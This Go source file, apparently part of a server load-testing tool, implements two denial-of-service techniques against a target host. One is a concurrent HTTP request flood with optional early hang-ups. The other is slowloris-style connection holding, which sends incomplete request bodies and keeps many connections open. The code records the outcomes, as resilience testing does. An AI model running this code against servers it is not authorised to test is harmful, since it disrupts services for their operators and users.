// SPDX-License-Identifier: MIT

package main

import (
	"context"
	"errors"
	"net"
	"net/http"
	"net/http/httptrace"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// calls is an attack by requests.
type calls struct {
	Message message
	Others  []message // that are sent in turn with it
	AtOnce  int
	AtMost  int           // 0: until told to stop, at most mostCalls
	HangUp  time.Duration // after which the attacker hangs up; 0: it waits for the answer
	Pause   time.Duration // after each answer
}

// mostCalls bounds every attack without a number of its own.
const mostCalls = 300_000

// run sends them. Without a number enough is sent when everybody who sends at once
// could have been answered.
func (a *calls) run(ctx context.Context, w way, t *tally, sent func()) {
	most := int64(mostCalls)
	if a.AtMost > 0 {
		most = int64(a.AtMost)
	}
	transport := w.transport()
	transport.MaxIdleConnsPerHost = a.AtOnce
	defer transport.CloseIdleConnections()
	c := &http.Client{Transport: transport}
	turn := append([]message{a.Message}, a.Others...)
	var last, answered atomic.Int64
	var all sync.WaitGroup
	for range a.AtOnce {
		all.Go(func() {
			for n := last.Add(1); n <= most && ctx.Err() == nil; n = last.Add(1) {
				m := turn[int(n)%len(turn)]
				if strings.Contains(m.Body, number) {
					m = m.numbered(int(n))
				}
				how := a.send(ctx, c, w.target, m)
				t.add(how)
				if a.Pause > 0 {
					pause(ctx, a.Pause)
				}
				if a.AtMost == 0 && how != hungUp && how != partly && answered.Add(1) == int64(a.AtOnce) {
					sent()
				}
			}
		})
	}
	all.Wait()
	if last.Load() >= most {
		sent()
	}
}

func (a *calls) send(ctx context.Context, c *http.Client, target string, m message) string {
	if a.HangUp > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, answerTime+a.HangUp)
		defer cancel()
		// The attacker's time counts from the connection, which takes its own on a loaded machine.
		ctx = httptrace.WithClientTrace(ctx, &httptrace.ClientTrace{
			GotConn: func(httptrace.GotConnInfo) { time.AfterFunc(a.HangUp, cancel) },
		})
	}
	return answer(ctx, c, target, m)
}

// hold is an attack by connections that stay open.
type hold struct {
	Message     message
	Connections int
	AtOnce      int
	Announced   int  // the length of the body; 0: what it is
	Cut         int  // bytes of the body that are never sent
	Await       bool // the answer to one before another is opened
}

// answerTime is how long an attacker waits for an answer, or for a connection.
const answerTime = 2 * time.Second

// run opens them, holds them until it is told to stop, and returns how many were
// open then.
func (a *hold) run(ctx context.Context, w way, t *tally, sent func()) int {
	announced := a.Announced
	if announced == 0 {
		announced = len(a.Message.Body)
	}
	text := a.Message.bytes(w.target, announced)
	text = text[:len(text)-a.Cut]
	var mu sync.Mutex
	var open []*held
	each(a.Connections, a.AtOnce, func(int) {
		if ctx.Err() != nil {
			return
		}
		h := a.open(ctx, w, text)
		if h.conn == nil {
			t.add(h.how)
			return
		}
		mu.Lock()
		defer mu.Unlock()
		open = append(open, h)
	})
	sent()
	<-ctx.Done()
	var still atomic.Int64
	each(len(open), 500, func(i int) {
		if open[i].atLast() {
			still.Add(1)
		}
		t.add(open[i].how)
	})
	return int(still.Load())
}

// each calls f with the numbers below n, some at once.
func each(n, atOnce int, f func(int)) {
	var next atomic.Int64
	var all sync.WaitGroup
	for range atOnce {
		all.Go(func() {
			for i := int(next.Add(1)) - 1; i < n; i = int(next.Add(1)) - 1 {
				f(i)
			}
		})
	}
	all.Wait()
}

// held is one connection and how it ended, or what was answered on it.
type held struct {
	conn net.Conn
	how  string
}

func (a *hold) open(ctx context.Context, w way, text []byte) *held {
	dialing, cancel := context.WithTimeout(ctx, answerTime)
	defer cancel()
	conn, err := w.dial(dialing, "tcp", w.target)
	if err != nil {
		how := failure(err)
		if how == hungUp {
			how = silence
		}
		return &held{how: how}
	}
	h := &held{conn: conn}
	stop := context.AfterFunc(ctx, func() { _ = conn.SetWriteDeadline(time.Now()) })
	defer stop()
	// Why something could not be sent shows in what is read, unless it was for
	// want of time.
	if _, err := conn.Write(text); errors.Is(err, os.ErrDeadlineExceeded) {
		h.how = partly
	} else if a.Await {
		h.read(time.Now().Add(answerTime))
	}
	return h
}

// read takes what there is of an answer, and reports whether the connection is
// still open.
func (h *held) read(until time.Time) (open bool) {
	_ = h.conn.SetReadDeadline(until)
	buffer := make([]byte, 512)
	n, err := h.conn.Read(buffer)
	if status, found := strings.CutPrefix(string(buffer[:n]), "HTTP/1.1 "); found && (h.how == "" || h.how == partly) && len(status) >= 3 {
		h.how = status[:3]
	}
	if err == nil {
		return true
	}
	how := failure(err)
	if how == silence {
		return true
	}
	if h.how == "" {
		h.how = how
	}
	return false
}

// lastLook is how long a connection that is still open is looked at.
const lastLook = 50 * time.Millisecond

// atLast looks at the connection a last time and closes it.
func (h *held) atLast() (open bool) {
	defer h.conn.Close()
	for range 64 { // what has come of a long answer
		before := time.Now()
		open = h.read(before.Add(lastLook))
		if !open || time.Since(before) >= lastLook {
			break
		}
	}
	if h.how == "" {
		h.how = silence
	}
	return open
}
